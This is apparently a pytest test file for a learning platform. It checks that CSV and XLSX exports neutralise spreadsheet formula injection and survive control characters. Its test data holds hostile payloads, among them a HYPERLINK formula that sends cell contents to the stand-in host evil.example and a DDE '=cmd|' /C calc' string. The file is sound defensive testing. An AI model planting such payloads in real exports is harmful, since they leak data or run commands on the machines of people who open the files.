"""Item 3: formula injection. Text cells starting with = + - @ TAB CR are neutralised in every
CSV/XLSX export (year-end report, progress export, activation codes) and XLSX text is always
written as a text cell; a control character stored earlier no longer breaks an XLSX."""
import csv
import io
import secrets

import pytest
from openpyxl import load_workbook

from mooc_common.infra import spreadsheet_cells
from services.progress import exports as progress_exports
from services.reports import exports as report_exports
from tests.e2e.accounts_fixtures import API, new_tenant
from tests.e2e.test_accounts_import import COLUMNS, csv_bytes, finished, upload

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"Xem")', "+1+2", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]


def year_end(title, evaluation):
    return {"tenant": {"name": "Sở Nội vụ", "code": "SNV"}, "year": 2026,
            "plan": {"planned_courses": 2, "planned_learners": 10},
            "actual": {"courses_run": 1, "learners_trained": 3, "enrollments": 4, "completions": 3,
                       "completion_rate": 0.75, "certificates": 3, "active_learners": 4},
            "achievement": {"courses_pct": 50.0, "learners_pct": 30.0},
            "courses": [{"code": "K1", "title": title, "national": False, "enrollments": 4,
                         "completions": 3, "completion_rate": 0.75, "certificates": 3}],
            "learners_trained_by_category": [], "learners_trained_by_unit": [],
            "evaluation": evaluation, "as_of": "2026-12-01T00:00:00+00:00"}


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_year_end_csv_and_xlsx_hold_no_formula(payload):
    content = year_end(payload, payload)
    rows = list(csv.reader(io.StringIO(report_exports.to_csv(content).decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert cells.count("'" + payload) == 2 and payload not in cells
    book = load_workbook(io.BytesIO(report_exports.to_xlsx(content)))
    # XML turns a CR into a LF when read back
    found = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row
             if c.value == ("'" + payload).replace("\r", "\n")]
    assert len(found) == 2 and all(c.data_type == "s" for c in found)
    assert not [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.data_type == "f"]


def test_numbers_stay_numbers_and_plain_text_is_unchanged():
    assert spreadsheet_cells.csv_row([-3, 2.5, "Nguyễn Văn An", None]) == [-3, 2.5, "Nguyễn Văn An", None]


def test_a_control_character_stored_before_no_longer_breaks_the_xlsx():
    book = load_workbook(io.BytesIO(report_exports.to_xlsx(year_end("Khóa\u0007học", "Tốt\u0000"))))
    assert book["Khóa học"]["B2"].value == "Khóahọc" and book["Đánh giá"]["A2"].value == "Tốt"


def test_the_progress_export_neutralises_text_cells():
    rows = [{"learner_id": "a" * 32, "unit_id": "=cmd|' /C calc'!A0", "category": "@x", "status": "completed",
             "percent_complete": -1}]
    parsed = list(csv.DictReader(io.StringIO(progress_exports.to_csv(rows).decode("utf-8-sig"))))
    assert parsed[0]["unit_id"] == "'=cmd|' /C calc'!A0" and parsed[0]["category"] == "'@x"
    sheet = load_workbook(io.BytesIO(progress_exports.to_xlsx(rows))).active
    values = list(sheet.values)[1]
    assert values[3] == "'=cmd|' /C calc'!A0" and values[7] == -1


@pytest.mark.e2e
def test_activation_codes_csv_neutralises_a_formula_in_a_name(operator):
    tenant = new_tenant(operator)
    operator.post(f"{API}/tenants/{tenant['tenant_id']}/units", {"code": "SO-GD", "name": "Sở Giáo dục"})
    username = "fx" + secrets.token_hex(3)
    content = csv_bytes([[username, '=HYPERLINK("http://evil.example","Mở")', f"{username}@example.vn", "",
                          "SO-GD", "worker", ""]], columns=COLUMNS)
    job = finished(operator, upload(operator, tenant["tenant_id"], content)["job_id"])
    assert job["state"] == "done", job
    response = operator.session.get(f"{operator.base_url}{API}/imports/{job['job_id']}/activation-codes")
    row = next(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert row["full_name"] == '\'=HYPERLINK("http://evil.example","Mở")'
